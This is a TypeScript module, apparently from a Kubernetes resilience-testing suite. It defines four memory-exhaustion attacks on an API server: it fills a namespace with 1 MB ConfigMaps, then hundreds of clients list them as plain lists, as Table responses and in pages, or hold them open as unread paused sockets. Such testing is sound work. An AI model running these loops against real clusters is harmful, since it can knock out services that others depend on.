/** Many clients list large documents at once: as they are, as Tables, in pages, and unread. */
import { once } from "node:events";
import { connect } from "node:tls";
import type { TLSSocket } from "node:tls";
import { askOnce, inLoops } from "../attack.ts";
import type { Account, Attack, AttackTarget } from "../attack.ts";

const documents = 300;
const documentBytes = 1_000_000;
/** The limit for a Table was 64 MiB of documents. */
const fewDocuments = 66;
const clients = 200;
const tableClients = 250;

const table = "application/json;as=Table;g=meta.k8s.io;v=v1";

export const attacks: readonly Attack[] = [
  {
    name: "large-lists",
    prepare: (target) => fill(target, documents),
    run: (target, signal) => listInLoops(target, signal, { clients }),
  },
  {
    name: "large-tables",
    prepare: (target) => fill(target, fewDocuments),
    run: (target, signal) => listInLoops(target, signal, { clients: tableClients, accept: table }),
  },
  {
    name: "large-pages",
    prepare: (target) => fill(target, fewDocuments),
    run: (target, signal) => listInLoops(target, signal, { clients, query: "?limit=500" }),
  },
  {
    name: "unread-lists",
    prepare: (target) => fill(target, documents),
    run: async (target, signal) => {
      const sockets = Array.from({ length: clients }, (_, at) => {
        const socket = ask(target, accountOf(target, at), {});
        socket.pause();
        return socket;
      });
      await new Promise<void>((resolve) => {
        signal.addEventListener("abort", () => resolve(), { once: true });
      });
      for (const socket of sockets) socket.destroy();
    },
  },
];

async function fill(target: AttackTarget, count: number): Promise<void> {
  const text = "x".repeat(documentBytes);
  for (let at = 0; at < count; at++) {
    const document = { metadata: { name: `large-${at}` }, data: { text } };
    const body = { type: "application/json", text: JSON.stringify(document) };
    const { status } = await askOnce(target, target.admin, ["POST", pathOf(target)], body);
    if (status !== 201) throw new Error(`a large document was refused: ${status}`);
  }
}

function pathOf({ namespace }: AttackTarget): string {
  return `/api/v1/namespaces/${namespace}/configmaps`;
}

function accountOf({ accounts }: AttackTarget, at: number): Account {
  const account = accounts[at % accounts.length];
  if (account === undefined) throw new Error("the attacker has no account");
  return account;
}

interface Listing {
  readonly query?: string;
  readonly accept?: string;
}

/** Reads and discards, as the answers would not fit into the memory of this process either. */
async function listInLoops(
  target: AttackTarget,
  signal: AbortSignal,
  listing: Listing & { readonly clients: number },
): Promise<void> {
  await inLoops(listing.clients, signal, async (loop) => {
    const socket = ask(target, accountOf(target, loop), listing);
    const end = (): void => void socket.destroy();
    signal.addEventListener("abort", end, { once: true });
    await once(socket, "close");
    signal.removeEventListener("abort", end);
  });
}

/** The connection ends with the answer. */
function ask(target: AttackTarget, { token }: Account, { query = "", accept }: Listing): TLSSocket {
  const { host, port, ca } = target;
  const socket = connect({ host, port, ca, ALPNProtocols: ["http/1.1"] });
  const head = [
    `GET ${pathOf(target)}${query} HTTP/1.1`,
    `host: ${host}`,
    `authorization: Bearer ${token}`,
    `accept: ${accept ?? "application/json"}`,
    "connection: close",
  ];
  socket.on("error", () => undefined); // The server may refuse the client.
  socket.once("secureConnect", () => socket.write(`${head.join("\r\n")}\r\n\r\n`));
  socket.resume();
  return socket;
}
